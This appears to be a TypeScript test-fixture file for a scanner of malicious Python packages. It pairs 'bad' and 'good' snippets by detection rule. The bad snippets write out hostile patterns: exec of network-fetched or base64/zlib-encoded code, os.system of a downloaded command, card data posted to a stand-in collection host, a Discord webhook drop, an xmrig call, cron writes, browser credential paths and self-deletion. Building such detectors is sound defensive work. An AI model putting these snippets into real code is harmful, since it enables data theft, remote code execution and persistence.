import type { Sample } from "./sample.ts";

const py = (rule: string, title: string, bad: string, good: string, path = "src/plugin.py"): Sample => ({
  rule,
  title,
  path,
  bad: `${bad}\n`,
  good: `${good}\n`,
});

/** Python as found in packages that were taken off PyPI. */
export const pythonSamples: readonly Sample[] = [
  py("eval", "exec of a parameter", "def run(code):\n    exec(code)", "def run(code):\n    execute(code)"),
  py(
    "eval",
    "styled letters",
    "def run(code):\n    \u{1D456}nt(0)\n    e\u{1D463}al(code)",
    "def run(code):\n    int(0)",
  ),
  py("look-alike", "styled letters", "s\u{1D452}lf = 1", "self_ = 1"),
  py(
    "eval-hidden",
    "base64",
    "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
    "import base64\nprint(base64.b64decode('cHJpbnQoMSk='))",
  ),
  py(
    "eval-hidden",
    "the network",
    "from urllib.request import urlopen as u\nexec(u('https://x.example/a').read())",
    "from urllib.request import urlopen as u\nprint(u('https://api.pay.example/a').read())",
  ),
  py(
    "eval-hidden",
    "compressed",
    "import zlib as z, base64 as b\nexec(z.decompress(b.b64decode('eJwrKMrMK9Ew1AQADgYCkQ==')))",
    "import zlib as z\nprint(z.decompress(data))",
  ),
  py(
    "call-hidden",
    "getattr in pieces",
    "import os\ngetattr(os, 'sys' + 'tem')('id')",
    "import os\ngetattr(os, 'get' + 'cwd')()",
  ),
  py(
    "call-hidden",
    "__import__ and builtins",
    "getattr(__import__('builtins'), 'ev' + 'al')('1')",
    "getattr(__import__('json'), 'du' + 'mps')('1')",
  ),
  py(
    "decode-chain",
    "zlib of base64",
    "import zlib, base64\nx = zlib.decompress(base64.b64decode(b'eJwrKMrMK9Ew1AQADgYCkQ=='))",
    "import base64\nx = base64.b64decode(b'eJwrKMrMK9Ew1AQADgYCkQ==')",
  ),
  py("unserialize", "pickle", "import pickle\npickle.loads(data)", "import json\njson.loads(data)"),
  py(
    "unserialize-received",
    "pickle from the network",
    "import pickle, requests\npickle.loads(requests.get(u).content)",
    "import json, requests\njson.loads(requests.get(u).content)",
  ),
  py("process", "os.system", "import os as o\no.system('ls')", "import os as o\no.getcwd()"),
  py(
    "process",
    "subprocess under another name",
    "from subprocess import Popen as P\nP(['ls'])",
    "from printing import Popen as P\nP(['ls'])",
  ),
  py("process", "a module by text", "__import__('os').system('ls')", "__import__('os').getcwd()"),
  py(
    "process-received",
    "a command from the network",
    "import os, requests\nos.system(requests.get(u).text)",
    "import requests\nprint(requests.get(u).text)",
  ),
  py(
    "shell-phrase",
    "PowerShell",
    "c = 'powershell -WindowStyle Hidden -EncodedCommand cABvAHcAZQByAHMAaABlAGwAbAA='",
    "c = 'powershell is a shell'",
  ),
  py(
    "host-undeclared",
    "requests",
    "import requests\nrequests.post('https://collect.evil-cdn.net', json=card)",
    "import requests\nrequests.post('https://api.pay.example', json=body)",
  ),
  py(
    "host-undeclared",
    "http.client",
    "import http.client\nhttp.client.HTTPSConnection('collect.evil-cdn.net')",
    "import http.client\nhttp.client.HTTPSConnection('api.pay.example')",
  ),
  py("host-drop", "Discord", "u = 'https://discord.com/api/webhooks/1/x'", "u = 'https://discord.com/invite/x'"),
  py("miner", "xmrig", "c = ['./xmrig', '-o']", "c = ['./mixer', '-o']"),
  py("permission-undeclared", "ctypes", "import ctypes", "import json"),
  py("write-outside", "cron", "open('/etc/cron.d/x', 'w').write(line)", "open('data.txt', 'w').write(line)"),
  py(
    "write-code",
    "a batch file",
    "open(home + '/start.bat', 'w').write(line)",
    "open(home + '/start.txt', 'w').write(line)",
  ),
  py("credentials", "browser passwords", "p = profile + '/Login Data'", "p = profile + '/data'"),
  py(
    "environment-dump",
    "os.environ",
    "import os, json\njson.dumps(dict(os.environ))",
    "import os\nos.environ.get('HOME')",
  ),
  py("debug-output", "breakpoint", "breakpoint()", "checkpoint()"),
  py(
    "log-secret",
    "logging",
    "import logging\nlogging.info(settings.api_key)",
    "import logging\nlogging.info(order.id)",
  ),
  py("hides", "deletes itself", "import os\nos.remove(__file__)", "import os\nos.remove(path)"),
];
